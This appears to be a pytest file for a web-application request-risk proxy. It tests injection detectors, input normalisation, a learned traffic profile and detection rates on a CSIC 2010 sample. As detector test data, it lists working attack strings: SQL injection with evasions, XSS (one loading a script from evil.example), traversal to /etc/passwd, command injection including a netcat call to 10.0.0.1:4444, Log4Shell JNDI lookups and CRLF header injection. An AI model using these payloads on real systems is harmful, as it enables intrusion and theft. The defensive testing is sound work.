"""Detectors, normalisation and the learned profile: attacks with their evasions, benign near-misses, and
the rates on a fixed sample of the CSIC 2010 corpus (tests/fixtures)."""

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from policy import detectors
from policy.config import RouteConfig
from policy.corpus import to_incoming
from policy.identity import Identity, Trust
from policy.normalise import normalise
from policy.profile import Profile, fit
from policy.risk import History, RiskInput, RiskScore, profile_factor, score
from proxy.loader import create_config

ROOT = Path(__file__).resolve().parents[2]
CONFIG = create_config(path=ROOT / "config.yaml", env={"SECRET_KEY": "x" * 32})
CALLER = Identity("established", authenticated=True, trust=Trust.TRUSTED)
HISTORY = History(requests=1000, recent=50, recent_failures=0)
ROUTE = RouteConfig("/*", "echo")

ATTACKS = {
    "sql_injection": [
        "' OR 'a'='a",
        "%27OR%27a%3D%27a",  # CSIC: tautology without spaces
        '" AND "1"="1',
        "1 UNION/**/SELECT password FROM users",  # comment inside the keyword gap
        "1 UnIoN%0aSeLeCt 1",  # mixed case, newline
        "1%2520union%2520select%2520x",  # double encoding
        "';waitfor delay '0:0:15';--",
        "admin'--",
        "1 or 1=1",
        "x' or sleep(5)#",
        "1; DROP TABLE users",
        "SEL/**/ECT * FROM users",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js>",
        "paros%22+style%3D%22background%3Aurl%28javascript%3Aalert%28%27Paros%27%29%29",  # CSIC
        "<img src=x onerror=alert(1)>",
        "&lt;script&gt;alert(1)",  # HTML entities
        "%253Cscript%253E",  # double encoding
        "\\u003cscript\\u003e",  # unicode escapes
        "<svg/onload=alert(1)>",
    ],
    "path_traversal": [
        "../../etc/passwd",
        "..%2f..%2fetc%2fshadow",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc",  # overlong UTF-8
        "%u002e%u002e/%u002e%u002e/boot.ini",  # %u encoding
        "....//....//etc/passwd",
        "report.pdf%00.jpg",
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| nc 10.0.0.1 4444",
        "$(whoami)",
        "`id`",
        "() { :; }; /bin/bash -c id",  # shellshock
        "a && whoami",
    ],
    "template_injection": [
        "${jndi:ldap://x/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "{{7*7}}",
        '<!--#EXEC cmd="ls /"-->',  # CSIC: server-side include
        "#{7*7}",
        "<%= 7*7 %>",
    ],
}
BENIGN = [
    "O'Brien",
    "Mc'Morral Obrist",
    "select a size",
    "1+1=2",
    "rock 'n' roll or jazz",
    "a < b and c > d",
    "I'll be there; catalog 2",
    "Tom & Jerry",
    "Camino Hoya Mondongo, 124",
    "Confirm your order (2 items)",
    "https://example.com/a?b=c",
    "drop me a line",
    "union station",
    "user@example.com",
    "SELECT your seat",
    "rock|paper|scissors",
    "C:/Users/files",
    "what's 1 or 2 = ?",
    "Online help: <%s>",  # a translated program message: a format, not a template tag
]


@pytest.mark.parametrize(("detector", "attack"), [(d, a) for d, attacks in ATTACKS.items() for a in attacks])
def test_each_detector_catches_its_attacks_and_their_evasions(detector: str, attack: str) -> None:
    assert dict(detectors.scan(normalise(attack))).get(detector), f"{detector} missed {attack!r}"


@pytest.mark.parametrize("text", BENIGN)
def test_benign_near_misses_pass_every_detector(text: str) -> None:
    assert detectors.scan(normalise(text)) == ()


@pytest.mark.parametrize(
    ("path", "probe"),
    [
        ("/tienda1/miembros.old", True),
        ("/tienda1/publico/pagar.jsp.bak", True),
        ("/cfide/administrator/welcomefooter.cfm", True),
        ("/app/.git/config", True),
        ("/index.jsp~", True),
        ("/tienda1/publico/pagar.jsp", False),
        ("/images/old-logo.png", False),
    ],
)
def test_file_probes(path: str, probe: bool) -> None:
    assert bool(detectors.file_probe(path)) is probe


@pytest.mark.parametrize(
    ("raw", "hit"),
    [
        ("foo%0d%0aSet-Cookie:%20a=1", True),
        ("x%0aLocation: http://evil", True),
        ("x%0d%0a%0d%0a<html>", True),
        ("user%0a[ERROR] admin logged in", True),  # log forging
        ("line1%0d%0aline2", False),
        ("Thanks!%0d%0aNote: the parcel was late", False),  # a comment's second line
        ("Great%0d%0aP.S.: will buy again", False),
    ],
)
def test_crlf_injection(raw: str, hit: bool) -> None:
    assert bool(detectors.crlf_injection(raw)) is hit


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("%253Cscript%253E", "<script>"),
        ("a+b%20c", "a b c"),
        ("%u003cb%u003e", "<b>"),
        ("%c0%ae%c0%ae%c0%af", "../"),
        ("&lt;b&gt;&#x41;", "<b>a"),
        ("\\u0041\\x42", "ab"),
        ("UN/**/ION  SEL\tECT", "un ion sel ect union sel ect"),
        ("/*!50000SELECT*/ 1", "select 1 select 1"),
        ("MiXeD", "mixed"),
    ],
)
def test_normalise(raw: str, expected: str) -> None:
    assert normalise(raw) == expected


@pytest.mark.parametrize("uri", ["/p?a=bell%07ring", "/p?a=x%1by", "/p?a=x%7F"])
def test_control_characters_are_abnormal_even_in_values_no_detector_looks_at(uri: str) -> None:
    assert "abnormal_input" in run({"method": "GET", "uri": uri}, {}).summary()


def run(record: dict[str, Any], plugins: dict[str, Any]) -> RiskScore:
    return score(RiskInput(to_incoming(record), CALLER, HISTORY, ROUTE), CONFIG, plugins)


def test_the_profile_flags_tampering_that_no_signature_can() -> None:
    normal = [
        {"method": "GET", "uri": f"/shop/item.jsp?id={i}&qty={i % 5}&B1=Add"} for i in range(1, 40)
    ] + [{"method": "POST", "uri": "/shop/pay.jsp", "body": f"card={4000 + i}&name=Ana+Mar%EDa",
          "headers": {"Content-Type": "application/x-www-form-urlencoded"}} for i in range(40)]  # fmt: skip
    profile = fit(to_incoming(r) for r in normal)
    factor = {"profile": profile_factor(profile)}
    cases = {
        "/shop/item.jsp?id=7&qty=2&B1=Add": None,
        "/shop/item.jsp?idA=7&qty=2&B1=Add": "parameter 'idA' never seen",
        "/shop/item.jsp?id=7/&qty=2&B1=Add": "carries '/'",
        "/shop/item.jsp?id=" + "9" * 80 + "&qty=2&B1=Add": "is 80 long",
        "/shop/item.jsp.old": "path /shop/item.jsp.old never seen",
    }
    for uri, reason in cases.items():
        hits = {h.name: h.reason for h in run({"method": "GET", "uri": uri}, factor).hits}
        assert (reason is None) == ("profile" not in hits), uri
        assert reason is None or reason in hits["profile"], hits
    assert (
        "method PUT never seen"
        in dict(
            (h.name, h.reason) for h in run({"method": "PUT", "uri": "/shop/item.jsp?id=1"}, factor).hits
        )["profile"]
    )
    assert Profile.from_json(json.loads(json.dumps(profile.to_json()))) == profile


@pytest.mark.parametrize(
    "bad", [{"/a": {"params": {}}}, {"/a": {"methods": ["GET"], "params": {"x": {}}}}, {"/a": 3}]
)
def test_a_malformed_profile_is_refused(bad: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="malformed profile"):
        Profile.from_json(bad)


def sample() -> list[dict[str, Any]]:
    with gzip.open(ROOT / "tests/fixtures/csic2010-sample.jsonl.gz", "rt", encoding="utf-8") as lines:
        return [json.loads(line) for line in lines]


def rates(records: list[dict[str, Any]], plugins: dict[str, Any]) -> tuple[float, float]:
    low = CONFIG.hybrid.risk_thresholds.low
    attacks = [r for r in records if r["expect_attack"]]
    normal = [r for r in records if not r["expect_attack"] and r["split"] == "measure"]
    detected = sum(run(r, plugins).total >= low for r in attacks) / len(attacks)
    flagged = sum(run(r, plugins).total >= low for r in normal) / len(normal)
    return detected, flagged


def test_rates_on_a_fixed_sample_of_the_corpus() -> None:
    """600 normal requests fit the profile; 200 other normal and 200 anomalous ones are measured.
    Measured when written: 97.5% / 2.5% with the profile (the bench, fitting on 2,500, flags 0.36%),
    33.0% / 0.0% without it."""
    records = sample()
    profile = fit(to_incoming(r) for r in records if r["split"] == "fit")
    detected, flagged = rates(records, {"profile": profile_factor(profile)})
    assert detected >= 0.93 and flagged <= 0.05
    detected, flagged = rates(records, {})
    assert 0.25 <= detected <= 0.45 and flagged <= 0.01


@pytest.mark.parametrize(
    ("name", "record"),
    [
        ("1 MB of %25", {"method": "POST", "uri": "/p", "body": "a=" + "%25" * 349_525,
                         "headers": {"Content-Type": "application/x-www-form-urlencoded"}}),
        ("1 MB of quotes", {"method": "POST", "uri": "/p", "body": "'\"" * 524_288,
                            "headers": {"Content-Type": "text/plain"}}),
        ("100k parameters", {"method": "GET", "uri": "/p?" + "&".join(f"p{i}=1" for i in range(100_000))}),
        ("deep JSON", {"method": "POST", "uri": "/p", "body": "[" * 5000 + "]" * 5000,
                       "headers": {"Content-Type": "application/json"}}),
    ],
)  # fmt: skip
def test_pathological_inputs_are_scored_and_flagged(name: str, record: dict[str, Any]) -> None:
    result = run(record, {})  # their cost is measured in bench/detection.py
    assert result.total >= 15, (name, result)
